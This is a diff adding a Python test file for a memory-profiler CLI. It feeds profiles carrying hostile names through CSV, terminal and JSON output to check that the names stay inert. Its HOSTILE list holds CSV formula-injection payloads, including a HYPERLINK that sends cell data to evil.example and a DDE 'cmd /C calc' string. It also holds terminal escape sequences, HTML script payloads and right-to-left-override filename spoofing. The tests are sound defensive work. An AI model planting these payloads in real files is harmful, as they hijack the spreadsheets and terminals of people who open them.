@@ -1,0 +1,336 @@
+"""Function, file and label names from a profile are data, never code.
+
+The profiles are built with ``profile_pb2`` (valid indices) so that exactly
+these names reach the output: spreadsheet formulas, terminal escapes,
+newlines, HTML, bidi overrides and bytes that are not UTF-8. CSV must parse
+and keep formulas inert, the terminal must receive no control characters, and
+JSON must carry the names unchanged.
+
+stdout is read as bytes here: ``run_cli``'s text mode turns a carriage return
+into a newline, which would hide exactly what these tests look for.
+"""
+
+from __future__ import annotations
+
+import csv
+import io
+import json
+import subprocess
+import sys
+from collections import defaultdict
+
+import pytest
+
+from conftest import cpu_env, run_cli
+
+from jaxmemprof.pprof import profile_pb2 as pb
+
+# (function name, file name) as raw string-table bytes.
+HOSTILE = [
+    (b'=HYPERLINK("http://evil.example/?q="&A1,"click me")', b'=HYPERLINK("http://evil.example/","x").py'),
+    (b"+cmd|' /C calc'!A0", b"+cmd|' /C calc'!A0.py"),
+    (b"-2+3", b"-2+3.py"),
+    (b"@SUM(1)", b"@SUM(1)+1.py"),
+    (b"\t=1+1", b"\ttab.py"),
+    (b"\r=1+1", b"\rcr.py"),
+    (b"mid\r=1+2", b"mid\r=cr.py"),  # a CR inside a name must not start a new CSV row
+    (b"x\r\n=1+3", b"crlf\r\n@x.py"),
+    (b"\x1b[31mred\x1b[0m", b"\x1b[2J\x1b[Hclear.py"),
+    (b"\x1b]0;title\x07", b"\x1b]8;;http://evil.example/\x1b\\link.py"),
+    (b"line1\nline2", b"two\nlines.py"),
+    (b"<script>alert(1)</script>", b"<img src=x onerror=alert(1)>.py"),
+    (b"evil\xe2\x80\xaegnp", b"invoice\xe2\x80\xaefdp.py"),  # U+202E RIGHT-TO-LEFT OVERRIDE
+    (b"isolate\xe2\x81\xa6x\xe2\x81\xa9", b"lrm\xe2\x80\x8e.py"),  # U+2066/U+2069, U+200E
+    (b"bad\xff\xfeutf8", b"bad\xc3(.py"),  # not UTF-8
+    (b"\xed\xa0\x80surrogate", b"\x80\x9b31m.py"),  # an encoded surrogate; a lone C1 byte
+    (b"c1\xc2\x9b31m\xc2\x85", b"del\x7f.py"),  # U+009B CSI, U+0085 NEL; DEL
+    (b"nul\x00byte", b"bell\x07.py"),
+    (b"caf\xc3\xa9 \xe2\x9c\x93", b"\xe6\x97\xa5\xe6\x9c\xac.py"),  # ordinary non-ASCII stays
+]
+DEVICES = [b"=cmd|'/C calc'!A0", b"\x1b[31mcpu:0\x1b[0m"]
+KINDS = [b"-buffer\r\n=2+2", b"exec\xe2\x80\xaeutable\xff"]
+
+SHOW_VALUES = ["bytes", "count", "share"]
+DIFF_VALUES = ["base_bytes", "new_bytes", "delta_bytes", "base_count", "new_count", "delta_count"]
+KEYS = {
+    "site": ["site", "file", "line", "function"],
+    "function": ["function"],
+    "file": ["file"],
+    "stack": ["stack"],
+    "device": ["device"],
+    "kind": ["kind"],
+}
+INT_COLUMNS = {"line", "bytes", "count", *DIFF_VALUES}
+FLOAT_COLUMNS = {"share"}
+FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
+GROUPINGS = list(KEYS)
+
+
+def text(b: bytes) -> str:
+    """How a name is expected to read: invalid UTF-8 as backslash escapes."""
+    return b.decode("utf-8", errors="backslashreplace")
+
+
+def line_of(i: int) -> int:
+    return 100 + i
+
+
+def samples_for(which: str):
+    """The samples of the base or new profile: (frame indices innermost
+    first, device index, kind index, count, bytes). Values differ so that
+    some groups grow, some shrink, one appears and one disappears."""
+    n = len(HOSTILE)
+    out = []
+    for i in range(n):
+        if which == "base":
+            if i == n - 1:
+                continue  # only in new
+            out.append(([i], i % 2, i % 2, 1, 1000 * (i + 1)))
+        else:
+            if i == 0:
+                continue  # only in base
+            out.append(([i], i % 2, (i + 1) % 2, 1 + i % 3, 1000 * (n - i) + 7))
+    # A deeper stack: two hostile frames.
+    out.append(([4, 9], 0, 1, 2, 555 if which == "base" else 777))
+    return out
+
+
+def build(which: str) -> bytes:
+    p = pb.Profile()
+    strings = [b""]
+
+    def s(b: bytes) -> int:
+        strings.append(b)
+        return len(strings) - 1
+
+    p.sample_type.add(type=s(b"allocations"), unit=s(b"count"))
+    p.sample_type.add(type=s(b"space"), unit=s(b"bytes"))
+    kind_key, device_key = s(b"kind"), s(b"device")
+    devices = [s(d) for d in DEVICES]
+    kinds = [s(k) for k in KINDS]
+    for i, (fn, file) in enumerate(HOSTILE, start=1):
+        p.function.add(id=i, name=s(fn), system_name=s(fn), filename=s(file))
+        p.location.add(id=i, line=[pb.Line(function_id=i, line=line_of(i - 1))])
+    for frames, dev, kind, count, nbytes in samples_for(which):
+        smp = p.sample.add(location_id=[f + 1 for f in frames], value=[count, nbytes])
+        smp.label.add(key=kind_key, str=kinds[kind])
+        smp.label.add(key=device_key, str=devices[dev])
+    p.string_table.extend(strings)
+    return p.SerializeToString()
+
+
+def site_of(i: int) -> str:
+    fn, file = HOSTILE[i]
+    return f"{text(file)}:{line_of(i)} ({text(fn)})"
+
+
+def keys_of(sample, by: str) -> tuple:
+    frames, dev, kind, _, _ = sample
+    inner = frames[0]
+    fn, file = HOSTILE[inner]
+    return {
+        "site": (site_of(inner), text(file), line_of(inner), text(fn)),
+        "function": (text(fn),),
+        "file": (text(file),),
+        "stack": (" <- ".join(site_of(f) for f in frames),),
+        "device": (text(DEVICES[dev]),),
+        "kind": (text(KINDS[kind]),),
+    }[by]
+
+
+def expected_show(by: str) -> dict[tuple, dict]:
+    rows: dict[tuple, dict] = defaultdict(lambda: {"bytes": 0, "count": 0})
+    for smp in samples_for("new"):
+        r = rows[keys_of(smp, by)]
+        r["bytes"] += smp[4]
+        r["count"] += smp[3]
+    total = sum(r["bytes"] for r in rows.values())
+    for r in rows.values():
+        r["share"] = r["bytes"] / total
+    return dict(rows)
+
+
+def expected_diff(by: str) -> dict[tuple, dict]:
+    rows: dict[tuple, dict] = defaultdict(lambda: dict.fromkeys(DIFF_VALUES, 0))
+    for side in ("base", "new"):
+        for smp in samples_for(side):
+            r = rows[keys_of(smp, by)]
+            r[f"{side}_bytes"] += smp[4]
+            r[f"{side}_count"] += smp[3]
+    for r in rows.values():
+        r["delta_bytes"] = r["new_bytes"] - r["base_bytes"]
+        r["delta_count"] = r["new_count"] - r["base_count"]
+    return dict(rows)
+
+
+@pytest.fixture(scope="module")
+def hostile(tmp_path_factory):
+    d = tmp_path_factory.mktemp("hostile")
+    (d / "base.prof").write_bytes(build("base"))
+    (d / "new.prof").write_bytes(build("new"))
+    return d
+
+
+def run_cli_bytes(*args, cwd) -> subprocess.CompletedProcess:
+    """``run_cli`` with stdout and stderr kept as bytes."""
+    return subprocess.run([sys.executable, "-m", "jaxmemprof", *map(str, args)], cwd=cwd, env=cpu_env(),
+                          capture_output=True, timeout=300)
+
+
+def command_args(command: str) -> list[str]:
+    return ["show", "new.prof"] if command == "show" else ["diff", "base.prof", "new.prof"]
+
+
+def test_the_profiles_carry_the_hostile_names():
+    """The control: the names are in the string table byte for byte."""
+    msg = pb.Profile.FromString(build("new"))
+    table = list(msg.string_table)
+    for fn, file in HOSTILE:
+        assert fn in table and file in table
+    assert b"\r=1+1" in table and b"bad\xff\xfeutf8" in table
+
+
+def neutralised(value: str) -> str:
+    return "'" + value if value.startswith(FORMULA_START) else value
+
+
+# --------------------------------------------------------------------------
+# CSV
+
+
+@pytest.mark.parametrize("by", GROUPINGS)
+@pytest.mark.parametrize("command", ["show", "diff"])
+def test_csv_parses_and_keeps_formulas_inert(hostile, command, by):
+    proc = run_cli_bytes(*command_args(command), "--by", by, "--csv", "-", cwd=hostile)
+    assert proc.returncode == 0, proc.stderr.decode(errors="replace")
+    assert b"Traceback" not in proc.stderr
+    values = SHOW_VALUES if command == "show" else DIFF_VALUES
+    header = KEYS[by] + values
+    records = list(csv.reader(io.StringIO(proc.stdout.decode("utf-8"), newline="")))
+    assert records[0] == header
+    body = records[1:]
+    for rec in body:
+        assert len(rec) == len(header), f"a row was split or merged: {rec!r}"
+
+    expected = expected_show(by) if command == "show" else expected_diff(by)
+    got = {}
+    for rec in body:
+        cells = dict(zip(header, rec))
+        for col, cell in cells.items():
+            if col in INT_COLUMNS:
+                assert cell == str(int(cell)), f"{col} is not a plain integer: {cell!r}"
+            elif col in FLOAT_COLUMNS:
+                float(cell)
+            else:
+                # Text: a cell a spreadsheet would run is quoted with '.
+                assert not cell.startswith(FORMULA_START), f"{col} runs as a formula: {cell!r}"
+        key = tuple(cells[k] for k in KEYS[by])
+        assert key not in got, f"duplicate row {key!r}"
+        got[key] = cells
+
+    want = {}
+    for key, vals in expected.items():
+        shown = tuple(str(v) if k == "line" else neutralised(v) for k, v in zip(KEYS[by], key))
+        want[shown] = vals
+    if command == "diff":
+        # Unchanged groups may be left out of the rows; every changed one is there.
+        assert all(k in want for k in got), sorted(set(got) - set(want))
+        assert {k for k, v in want.items() if v["delta_bytes"] or v["delta_count"]} <= set(got)
+    else:
+        assert set(got) == set(want)
+    for key, cells in got.items():
+        for col in values:
+            if col in FLOAT_COLUMNS:
+                assert float(cells[col]) == pytest.approx(want[key][col])
+            else:
+                assert int(cells[col]) == want[key][col], (key, col)
+    if command == "diff":
+        negative = [c["delta_bytes"] for c in got.values() if int(c["delta_bytes"]) < 0]
+        assert negative, "the hostile diff has shrinking groups"
+        assert all(c.startswith("-") and c[1:].isdigit() for c in negative)
+
+
+def test_csv_file_matches_csv_stdout(hostile):
+    """--csv FILE writes the same bytes as --csv - (read back without newline translation)."""
+    out = hostile / "sites.csv"
+    if out.exists():
+        out.unlink()
+    run_cli("show", "new.prof", "--csv", out, cwd=hostile, check=0)
+    stdout = run_cli_bytes("show", "new.prof", "--csv", "-", cwd=hostile).stdout
+    assert out.read_bytes() == stdout
+
+
+# --------------------------------------------------------------------------
+# Terminal
+
+BIDI = {"\u200e", "\u200f", *map(chr, range(0x202A, 0x202F)), *map(chr, range(0x2066, 0x206A))}
+
+
+def assert_terminal_safe(raw: bytes):
+    out = raw.decode("utf-8")  # strict: the terminal gets valid UTF-8
+    bad = sorted({c for c in out if (ord(c) < 0x20 and c != "\n") or 0x7F <= ord(c) <= 0x9F or c in BIDI})
+    assert not bad, f"control characters reach the terminal: {bad!r}"
+
+
+@pytest.mark.parametrize("by", GROUPINGS)
+@pytest.mark.parametrize("command", ["show", "diff"])
+def test_terminal_output_has_no_control_characters(hostile, command, by):
+    proc = run_cli_bytes(*command_args(command), "--by", by, "--top", "0", cwd=hostile)
+    assert proc.returncode == 0, proc.stderr.decode(errors="replace")
+    assert proc.stderr == b""
+    assert_terminal_safe(proc.stdout)
+    out = proc.stdout.decode("utf-8")
+    lines = out.split("\n")
+    # One line per group: a newline inside a name does not add lines.
+    expected = expected_show(by) if command == "show" else expected_diff(by)
+    header = next(i for i, ln in enumerate(lines) if ln.rstrip().endswith(f"  {by}"))
+    total = next(i for i, ln in enumerate(lines) if ln.startswith("total: "))
+    n_rows = total - header - 1
+    if command == "show":
+        assert n_rows == len(expected), out
+    else:
+        changed = sum(1 for v in expected.values() if v["delta_bytes"] or v["delta_count"])
+        assert changed <= n_rows <= len(expected), out
+    # The names are still there to read, escaped.
+    if by in ("function", "site", "stack"):
+        assert "\\x1b[31mred\\x1b[0m" in out
+        assert "evil\\u202egnp" in out
+        assert "bad\\xff\\xfeutf8" in out
+    if by in ("file", "site"):
+        assert "invoice\\u202efdp.py" in out
+        assert "\u65e5\u672c.py" in out  # ordinary non-ASCII is shown as it is
+    # The device and kind labels, shown in the breakdowns, are escaped too.
+    assert "\\x1b[31mcpu:0\\x1b[0m" in out
+
+
+# --------------------------------------------------------------------------
+# JSON
+
+
+@pytest.mark.parametrize("by", ["site", "stack", "device", "kind"])
+@pytest.mark.parametrize("command", ["show", "diff"])
+def test_json_round_trips_the_names(hostile, command, by):
+    proc = run_cli_bytes(*command_args(command), "--by", by, "--json", cwd=hostile)
+    assert proc.returncode == 0, proc.stderr.decode(errors="replace")
+    doc = json.loads(proc.stdout.decode("utf-8"))
+    assert doc["command"] == command
+    expected = expected_show(by) if command == "show" else expected_diff(by)
+    got = {tuple(r[k] for k in KEYS[by]): r for r in doc["rows"]}
+    if command == "show":
+        assert set(got) == set(expected)
+    else:
+        assert set(got) <= set(expected)
+        assert {k for k, v in expected.items() if v["delta_bytes"] or v["delta_count"]} <= set(got)
+    for key, row in got.items():
+        for col in SHOW_VALUES if command == "show" else DIFF_VALUES:
+            assert row[col] == pytest.approx(expected[key][col])
+    assert {d["device"] for d in doc["devices"]} == {text(d) for d in DEVICES}
+    assert {k["kind"] for k in doc["kinds"]} == {text(k) for k in KINDS}
+    if by == "site":
+        functions = {r["function"] for r in doc["rows"]}
+        # Invalid UTF-8 arrives as backslash escapes; everything else unchanged.
+        assert "bad\\xff\\xfeutf8" in functions
+        assert "\\xed\\xa0\\x80surrogate" in functions
+        assert '=HYPERLINK("http://evil.example/?q="&A1,"click me")' in functions
+        assert "\r=1+1" in functions and "\x1b]0;title\x07" in functions
+        assert "evil\u202egnp" in functions and "caf\u00e9 \u2713" in functions
